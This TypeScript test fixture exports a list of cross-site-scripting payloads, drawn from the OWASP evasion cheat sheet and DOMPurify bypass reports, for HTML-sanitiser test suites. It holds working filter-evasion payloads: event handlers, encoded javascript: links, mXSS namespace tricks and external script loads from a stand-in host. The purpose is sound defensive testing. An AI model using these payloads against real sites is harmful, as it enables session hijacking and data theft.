/**
 * Real cross-site-scripting payloads, after the OWASP XSS filter evasion cheat
 * sheet and published DOMPurify bypass reports. Each is embedded between
 * harmless content that must survive sanitising, so payloads that are usually
 * left unclosed are closed here (an unclosed `<noscript>` or `<math>` would
 * legitimately swallow the content after it).
 */

/** One payload: what it tries and its HTML. */
export interface XssPayload {
	/** What the payload tries. */
	name: string;
	html: string;
}

/** The payloads every sanitiser suite runs, one test each. */
export const XSS_PAYLOADS: readonly XssPayload[] = [
	{ name: 'inline script', html: '<script>alert(1)</script>' },
	{ name: 'external script, upper case', html: '<SCRIPT SRC=//xss.example/xss.js></SCRIPT>' },
	{ name: 'split script tag', html: '<<script>script>alert(1)//<</script>/script>' },
	{ name: 'img onerror', html: '<img src=x onerror=alert(1)>' },
	{ name: 'img onerror evaluating its src', html: '<img src=x:alert(1) onerror=eval(src)>' },
	{ name: 'img javascript: src', html: '<img src="javascript:alert(1)">' },
	{ name: 'img data: svg src', html: '<img src="data:image/svg+xml,<svg onload=alert(1)>">' },
	{
		name: 'img srcset javascript:',
		html: '<img src="/a.jpg" srcset="/a.jpg 1x, javascript:alert(1) 2x">',
	},
	{ name: 'svg onload', html: '<svg onload=alert(1)>' },
	{ name: 'script inside svg', html: '<svg><script>alert(1)</script></svg>' },
	{
		name: 'svg link with xlink:href',
		html: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
	},
	{ name: 'iframe javascript: src', html: '<iframe src="javascript:alert(1)"></iframe>' },
	{
		name: 'iframe srcdoc',
		html: '<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>',
	},
	{ name: 'javascript: link', html: '<a href="javascript:alert(1)">pulsa</a>' },
	{ name: 'mixed-case javascript: link', html: '<a href="JaVaScRiPt:alert(1)">pulsa</a>' },
	{
		name: 'decimal-entity javascript: link',
		html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">pulsa</a>',
	},
	{
		name: 'hex-entity javascript: link without semicolons',
		html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">pulsa</a>',
	},
	{ name: 'tab inside the scheme', html: '<a href="jav&#x09;ascript:alert(1)">pulsa</a>' },
	{ name: 'newline inside the scheme', html: '<a href="jav&#x0A;ascript:alert(1)">pulsa</a>' },
	{
		name: 'leading whitespace and control characters',
		html: '<a href=" &#14;  javascript:alert(1)">pulsa</a>',
	},
	{ name: 'named-entity colon', html: '<a href="javascript&colon;alert(1)">pulsa</a>' },
	{ name: 'vbscript: link', html: '<a href="vbscript:msgbox(1)">pulsa</a>' },
	{
		name: 'data: HTML link',
		html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">pulsa</a>',
	},
	{
		name: 'safe link with onclick',
		html: '<a href="https://ok.example/" onclick="alert(1)">pulsa</a>',
	},
	{ name: 'onmouseover on an allowed tag', html: '<b onmouseover="alert(1)">pasa</b>' },
	{
		name: 'style attribute with javascript: url',
		html: '<p style="background:url(javascript:alert(1))">p</p>',
	},
	{ name: 'style expression()', html: '<p style="width: expression(alert(1))">p</p>' },
	{ name: 'style element import', html: "<style>@import 'https://xss.example/x.css';</style>" },
	{ name: 'link stylesheet', html: '<link rel="stylesheet" href="javascript:alert(1)">' },
	{
		name: 'noscript attribute mXSS',
		html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
	},
	{
		name: 'math/style namespace confusion',
		html: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
	},
	{
		name: 'math/svg/textarea namespace confusion',
		html: '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>"></textarea></mtext></svg></mglyph></mi></math>',
	},
	{
		name: 'form with javascript: action',
		html: '<form action="javascript:alert(1)"><button>Pagar</button></form>',
	},
	{ name: 'button formaction', html: '<button formaction="javascript:alert(1)">Pagar</button>' },
	{ name: 'input autofocus onfocus', html: '<input autofocus onfocus=alert(1)>' },
	{
		name: 'meta refresh',
		html: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
	},
	{ name: 'base href hijack', html: '<base href="javascript:alert(1)//">' },
	{ name: 'object data', html: '<object data="javascript:alert(1)"></object>' },
	{ name: 'embed src', html: '<embed src="javascript:alert(1)">' },
	{ name: 'body onload', html: '<body onload=alert(1)>' },
	{ name: 'details ontoggle', html: '<details open ontoggle=alert(1)>' },
	{ name: 'video source onerror', html: '<video><source onerror="alert(1)"></video>' },
	{ name: 'template content', html: '<template><script>alert(1)</script></template>' },
	{ name: 'comment hiding markup', html: '<!--<img src=x onerror=alert(1)>-->' },
	{ name: 'closing-tag attribute confusion', html: '<p id="</p><img src=x onerror=alert(1)>">' },
	{ name: 'DOM clobbering name', html: '<a name="getElementById">x</a>' },
];
